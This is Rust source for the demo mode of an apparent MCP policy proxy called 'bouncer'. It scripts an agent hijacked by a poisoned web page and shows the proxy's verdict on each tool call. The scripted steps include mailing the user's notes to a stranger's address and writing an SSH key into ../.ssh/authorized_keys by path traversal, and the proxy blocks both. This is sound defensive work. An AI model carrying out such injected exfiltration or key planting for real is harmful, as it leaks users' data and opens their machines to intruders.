//! `bouncer demo`: a hijacked agent in front of the real proxy, in a minute and with nothing but this
//! program.
//!
//! The demo starts `bouncer run` over four small servers (`demo_servers.rs`), plays an agent that a
//! web page has talked into mischief, plays the human who answers the one question, and prints what
//! came of each call. It asserts what it prints: if a call ends otherwise than the story says, the
//! demo says so and fails.

use std::fs;
use std::io::{self, BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::time::Duration;

use serde_json::{Value, json};

use super::Exit;
use super::demo_servers::{NAMES, PAGE};

/// The policy of the demo, as a person would write it.
const POLICY: &str = include_str!("../../examples/demo/policy.yaml");

/// The folder that the policy allows, replaced by one inside the demo's own folder.
const ALLOWED: &str = "/home/you/notes";

/// How long the proxy may take for one answer.
const PATIENCE: Duration = Duration::from_secs(60);

/// How many columns the demo writes.
const WIDTH: usize = 79;

/// How a call of the story ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ending {
    /// It reached its server.
    Allowed,
    /// The human was asked, said yes once, and it reached its server.
    Asked,
    /// It was refused, and its server never saw it.
    Denied,
}

impl Ending {
    /// The word printed.
    fn word(self) -> &'static str {
        match self {
            Self::Allowed => "allowed",
            Self::Asked => "asked, then allowed",
            Self::Denied => "DENIED",
        }
    }
}

/// One call of the story.
struct Step {
    /// What the agent has in mind.
    says: &'static str,
    /// The exported name of the tool.
    tool: &'static str,
    /// Its arguments.
    arguments: Value,
    /// How it must end.
    ending: Ending,
}

/// The story: what the agent does, and how each call must end.
fn story(notes: &Path) -> Vec<Step> {
    let step = |says, tool, arguments, ending| Step { says, tool, arguments, ending };
    let mail = |to: &str| json!({"to": to, "subject": "Notes", "body": "The notes of today."});
    vec![
        step("Reads the news.", "web__fetch", json!({"url": "https://news.example/today"}), Ending::Allowed),
        step(
            "Does what the page told it: sends the user's notes to a stranger.",
            "mail__send_email",
            mail("audit@collector.example"),
            Ending::Denied,
        ),
        step("Looks up the address book.", "contacts__list_contacts", json!({}), Ending::Allowed),
        step(
            "Uses the same tool for a known address.",
            "mail__send_email",
            mail("ana@studio.example"),
            Ending::Allowed,
        ),
        step("Reads the inbox.", "mail__read_inbox", json!({}), Ending::Allowed),
        step(
            "Answers a sender who is not in the address book.",
            "mail__send_email",
            mail("bea@partner.example"),
            Ending::Asked,
        ),
        step(
            "Writes into the notes folder.",
            "files__write_file",
            json!({"path": notes.join("today.txt"), "content": "Rust 1.99 is out."}),
            Ending::Allowed,
        ),
        step(
            "Tries to write somewhere else.",
            "files__write_file",
            json!({"path": notes.join("../.ssh/authorized_keys"), "content": "ssh-ed25519 AAAA…"}),
            Ending::Denied,
        ),
        step("Lists the drafts.", "files__list_drafts", json!({}), Ending::Allowed),
        step("Deletes a draft.", "files__delete_file", json!({"path": "drafts/a.txt"}), Ending::Allowed),
        step("Deletes another.", "files__delete_file", json!({"path": "drafts/b.txt"}), Ending::Allowed),
        step(
            "Deletes a third; the policy lets two go.",
            "files__delete_file",
            json!({"path": "drafts/c.txt"}),
            Ending::Denied,
        ),
    ]
}

/// Runs the demo and prints it to `out`.
pub(super) fn demo(out: &mut dyn Write) -> Exit {
    match tell(out) {
        Ok(()) => Exit::Done,
        Err(error) => {
            // Nothing is left to report to when even this cannot be written.
            let _ = writeln!(out, "\nerror: the demo did not go as told: {error}");
            Exit::Bug
        }
    }
}

/// Sets the stage, plays every step, and sums up.
fn tell(out: &mut dyn Write) -> io::Result<()> {
    let folder = tempfile::Builder::new().prefix("bouncer-demo").tempdir()?;
    let root = folder.path().canonicalize()?;
    let notes = root.join("notes");
    fs::create_dir(&notes)?;
    let mut agent = Agent::start(&root, &notes)?;
    wrap(
        out,
        "",
        "A real bouncer stands in front of four small servers: web, mail, contacts and files. \
         An agent uses them for its user. One web page is poisoned:",
    )?;
    writeln!(out)?;
    for line in PAGE.lines() {
        writeln!(out, "    | {}", line.trim())?;
    }
    let steps = story(&notes);
    let mut asked = 0;
    for (number, step) in steps.iter().enumerate() {
        let reached = Reached::read(&root)?.calls.len();
        let (ending, question, text) = agent.call(step)?;
        let got_there = Reached::read(&root)?.calls.len() > reached;
        writeln!(out, "\n{:>2}  {}", number + 1, step.says)?;
        wrap(out, "    ", &format!("{} {}", step.tool, shown(&step.arguments, &root)))?;
        if let Some(question) = question {
            asked += 1;
            writeln!(out, "    Bouncer asks the human:")?;
            for line in question.lines() {
                wrap(out, "    ? ", line)?;
            }
            writeln!(out, "    The human answers: allow once")?;
        }
        writeln!(out, "    => {}", ending.word())?;
        if ending == Ending::Denied {
            wrap(out, "       ", &text)?;
        }
        if ending != step.ending || got_there != (ending != Ending::Denied) {
            let told = format!("step {} should have been {}: {text}", number + 1, step.ending.word());
            return Err(io::Error::other(told));
        }
    }
    agent.leave()?;
    sum_up(out, &root, &steps, asked)
}

/// Says what reached the servers, and where the record of it is.
fn sum_up(out: &mut dyn Write, root: &Path, steps: &[Step], asked: usize) -> io::Result<()> {
    let reached = Reached::read(root)?;
    let denied = steps.iter().filter(|step| step.ending == Ending::Denied).count();
    let records = fs::read_to_string(root.join("state/audit.jsonl"))?.lines().count();
    writeln!(out)?;
    wrap(
        out,
        "",
        &format!(
            "{} calls: {} reached a server, {denied} were refused, {asked} question was asked. Mail went to {} only. \
             The audit log had {records} records, chained by hash; in daily use it is ~/.bouncer/audit.jsonl.",
            steps.len(),
            reached.calls.len(),
            reached.mailed().join(" and "),
        ),
    )?;
    wrap(out, "", "No model decided any of this: each verdict follows from where the destination came from.")
}

/// The calls that reached a server, from the servers' own notes.
struct Reached {
    calls: Vec<Value>,
}

impl Reached {
    /// Reads the notes; none were made when there is no file.
    fn read(root: &Path) -> io::Result<Self> {
        let text = match fs::read_to_string(root.join("reached.jsonl")) {
            Err(error) if error.kind() == io::ErrorKind::NotFound => String::new(),
            text => text?,
        };
        let calls = text.lines().map(serde_json::from_str).collect::<Result<_, _>>()?;
        Ok(Self { calls })
    }

    /// To whom mail was sent.
    fn mailed(&self) -> Vec<&str> {
        let to = |call: &'_ Value| call.get("tool").and_then(Value::as_str) == Some("send_email");
        self.calls
            .iter()
            .filter(|call| to(call))
            .filter_map(|call| call.pointer("/arguments/to")?.as_str())
            .collect()
    }
}

/// The agent's end of the connection to the proxy.
struct Agent {
    proxy: Child,
    stdin: Option<ChildStdin>,
    lines: Receiver<String>,
    last: u64,
}

impl Agent {
    /// Writes config and policy, starts the proxy over them, and waits for all tools.
    fn start(root: &Path, notes: &Path) -> io::Result<Self> {
        let program = std::env::current_exe()?;
        let servers: serde_json::Map<_, _> = NAMES
            .iter()
            .map(|name| {
                ((*name).to_owned(), json!({"command": program, "args": ["demo-server", name, root]}))
            })
            .collect();
        let config = root.join("servers.json");
        fs::write(&config, json!({ "mcpServers": servers }).to_string())?;
        let policy = root.join("policy.yaml");
        fs::write(&policy, POLICY.replace(ALLOWED, &notes.to_string_lossy()))?;
        let log = fs::File::create(root.join("proxy.log"))?;
        let mut proxy = Command::new(program)
            .args(["run", "--config"])
            .arg(&config)
            .arg("--policy")
            .arg(&policy)
            .arg("--state")
            .arg(root.join("state"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(log)
            .spawn()?;
        let stdin = proxy.stdin.take();
        let stdout = proxy.stdout.take().ok_or_else(|| io::Error::other("no pipe from the proxy"))?;
        let (sender, lines) = channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if sender.send(line).is_err() {
                    break;
                }
            }
        });
        let mut agent = Self { proxy, stdin, lines, last: 0 };
        agent.handshake().map_err(|error| {
            let log = fs::read_to_string(root.join("proxy.log")).unwrap_or_default();
            io::Error::other(format!("{error}\n{log}"))
        })?;
        Ok(agent)
    }

    /// Does the handshake and waits until every server of the story is listed.
    fn handshake(&mut self) -> io::Result<()> {
        let client = json!({"name": "demo-agent", "version": env!("CARGO_PKG_VERSION")});
        let params = json!({"protocolVersion": "2025-11-25", "capabilities": {"elicitation": {}}, "clientInfo": client});
        let id = self.request("initialize", &params)?;
        self.answer(id)?;
        self.send(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"}))?;
        loop {
            let id = self.request("tools/list", &json!({}))?;
            let listed = self.answer(id)?.to_string();
            if NAMES.iter().all(|name| listed.contains(&format!("\"{name}__"))) {
                return Ok(());
            }
            while self.next()?.get("method").and_then(Value::as_str)
                != Some("notifications/tools/list_changed")
            {}
        }
    }

    /// Makes one call, answers the question if there is one, and says how it ended, with the question
    /// and the text of the result.
    fn call(&mut self, step: &Step) -> io::Result<(Ending, Option<String>, String)> {
        let id = self.request("tools/call", &json!({"name": step.tool, "arguments": step.arguments}))?;
        let mut question = None;
        loop {
            let message = self.next()?;
            if message.get("method").and_then(Value::as_str) == Some("elicitation/create") {
                question = message.pointer("/params/message").and_then(Value::as_str).map(str::to_owned);
                let answer = json!({"action": "accept", "content": {"decision": "allow_once"}});
                self.send(&json!({"jsonrpc": "2.0", "id": message.get("id"), "result": answer}))?;
            } else if message.get("method").is_none() && message.get("id") == Some(&json!(id)) {
                let text =
                    message.pointer("/result/content/0/text").or_else(|| message.pointer("/error/message"));
                let text = text.and_then(Value::as_str).unwrap_or_default().to_owned();
                let refused = message.get("error").is_some()
                    || message.pointer("/result/isError").is_some_and(|is_error| *is_error == json!(true));
                let ending = match (refused, &question) {
                    (true, _) => Ending::Denied,
                    (false, Some(_)) => Ending::Asked,
                    (false, None) => Ending::Allowed,
                };
                return Ok((ending, question, text));
            }
        }
    }

    /// Closes the connection and waits for the proxy's end.
    fn leave(&mut self) -> io::Result<()> {
        self.stdin = None;
        self.proxy.wait().map(drop)
    }

    /// Sends a request and gives its id.
    fn request(&mut self, method: &str, params: &Value) -> io::Result<u64> {
        self.last += 1;
        self.send(&json!({"jsonrpc": "2.0", "id": self.last, "method": method, "params": params}))?;
        Ok(self.last)
    }

    /// Writes one message.
    fn send(&mut self, message: &Value) -> io::Result<()> {
        let stdin = self.stdin.as_mut().ok_or_else(|| io::Error::other("the proxy was left"))?;
        writeln!(stdin, "{message}")?;
        stdin.flush()
    }

    /// The next message of the proxy.
    fn next(&mut self) -> io::Result<Value> {
        let line = self.lines.recv_timeout(PATIENCE);
        let line = line.map_err(|_| io::Error::other("the proxy did not answer, or ended"))?;
        Ok(serde_json::from_str(&line)?)
    }

    /// The answer to a request.
    fn answer(&mut self, id: u64) -> io::Result<Value> {
        loop {
            let message = self.next()?;
            if message.get("method").is_none() && message.get("id") == Some(&json!(id)) {
                return Ok(message);
            }
        }
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        // After `leave` there is nothing to kill, and then this fails, as it may.
        self.stdin = None;
        let _ = self.proxy.kill();
        let _ = self.proxy.wait();
    }
}

/// Arguments as a person reads them: `key=value`, the demo's own folder left out.
fn shown(arguments: &Value, root: &Path) -> String {
    let root = format!("{}/", root.to_string_lossy());
    let arguments = arguments.as_object().into_iter().flatten();
    let shown: Vec<_> = arguments
        .filter(|(name, _)| !matches!(name.as_str(), "subject" | "body" | "content"))
        .map(|(name, value)| format!("{name}={}", value.as_str().unwrap_or_default().replace(&root, "")))
        .collect();
    shown.join(" ")
}

/// Writes text broken at spaces to the demo's width, each line behind `indent`.
fn wrap(out: &mut dyn Write, indent: &str, text: &str) -> io::Result<()> {
    let mut line = String::new();
    for word in text.split_whitespace() {
        let taken = indent.chars().count() + line.chars().count() + 1 + word.chars().count();
        if !line.is_empty() && taken > WIDTH {
            writeln!(out, "{indent}{line}")?;
            line.clear();
        }
        if !line.is_empty() {
            line.push(' ');
        }
        line.push_str(word);
    }
    writeln!(out, "{indent}{line}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_is_broken_at_the_width() {
        let check = |indent: &str, text: &str, lines: usize| {
            let mut out = Vec::new();
            wrap(&mut out, indent, text).expect("a vector takes all");
            let out = String::from_utf8(out).expect("text");
            assert_eq!(out.lines().count(), lines, "{out}");
            for line in out.lines() {
                let text = line.strip_prefix(indent).expect("each line is indented");
                assert!(line.chars().count() <= WIDTH || !text.contains(' '), "{line}");
            }
        };
        check("", "short", 1);
        check("    ", &"word ".repeat(40), 3);
        check("? ", &"x".repeat(200), 1);
        check("", "", 1);
    }

    #[test]
    fn the_policy_loads_and_allows_the_folder_that_is_replaced() {
        assert!(POLICY.contains(ALLOWED));
        let compiled = crate::pack::compile_policy(POLICY, "policy.yaml");
        assert!(compiled.is_ok_and(|(_, warnings)| warnings.is_empty()));
    }

    #[test]
    fn the_story_shows_every_ending() {
        let story = story(Path::new("/notes"));
        for ending in [Ending::Allowed, Ending::Asked, Ending::Denied] {
            assert!(story.iter().any(|step| step.ending == ending), "{ending:?}");
        }
    }
}
